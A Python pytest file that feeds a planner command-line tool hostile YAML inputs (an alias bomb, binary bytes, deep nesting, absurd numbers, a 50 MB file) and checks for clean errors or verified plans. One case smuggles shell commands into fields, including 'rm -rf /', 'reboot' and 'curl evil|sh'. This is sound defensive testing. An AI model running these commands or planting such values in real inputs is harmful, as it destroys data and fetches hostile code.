"""Hostile inputs through the command line: only clean errors (exit 1, file and line, no
traceback) or verified plans, each within a bounded time."""

import copy
import time

import pytest
import yaml
from click.testing import CliRunner

from planner.cli.main import main
from tests.builders import catalog_dict, inventory_dict

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n"
    for p, c in zip("abcdefgh", "bcdefghi"))


def _inventory(**changes):
    inv = copy.deepcopy(inventory_dict(horizon=60))
    for path, value in changes.items():
        node = inv
        *parents, last = path.split(".")
        for key in parents:
            node = node[int(key)] if key.isdigit() else node[key]
        node[last] = value
    return yaml.safe_dump(inv)


CASES = {
    "alias-bomb": BOMB,
    "duplicate-keys": "name: a\nname: b\n",
    "binary": "\x00\x01\x02\xff",
    "latin-1": "name: caf\xe9\n",
    "deep": "a: " + "[" * 500 + "]" * 500 + "\n",
    "number-as-string": _inventory(**{"groups.0.count": "20"}),
    "deadline-zero": _inventory(deadline_hours=0),
    "deadline-huge": _inventory(deadline_hours=10 ** 9),
    "servers-huge": _inventory(**{"groups.0.count": 10 ** 12}),
    "negative-data": _inventory(**{"groups.1.data_gb": -5}),
    "injection-names": _inventory(**{"groups.2.name": "big'; rm -rf / #$(reboot)`id`",
                                     "services.dns.zones": ["x.com; curl evil|sh"]}),
    "deadline-a-year": _inventory(deadline_hours=8760, horizon_hours=8760),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_file_gives_a_clean_error_or_a_verified_plan(tmp_path, name):
    inv, cat = tmp_path / f"{name}.yaml", tmp_path / "cat.yaml"
    text = CASES[name]
    inv.write_bytes(text.encode("latin-1") if name in ("binary", "latin-1") else text.encode())
    cat.write_text(yaml.safe_dump(catalog_dict()))
    started = time.perf_counter()
    result = CliRunner().invoke(main, ["plan", str(inv), "--no-default-catalog", "-c", str(cat),
                                       "-o", str(tmp_path / "out"), "-q"])
    assert time.perf_counter() - started < 10
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output
    if result.exit_code == 1:
        assert f"{name}.yaml" in result.output
        assert not (tmp_path / "out").exists()
    else:
        assert CliRunner().invoke(main, ["verify", str(tmp_path / "out" / "plan.json")]) \
            .exit_code == 0


def test_a_50_mb_file_is_refused_quickly(tmp_path):
    big = tmp_path / "big.yaml"
    with big.open("w") as handle:
        line = "# " + "x" * 1000 + "\n"
        for _ in range(50 * 1024):
            handle.write(line)
    started = time.perf_counter()
    result = CliRunner().invoke(main, ["validate", str(big)])
    assert result.exit_code == 1 and "big.yaml" in result.output
    assert time.perf_counter() - started < 10
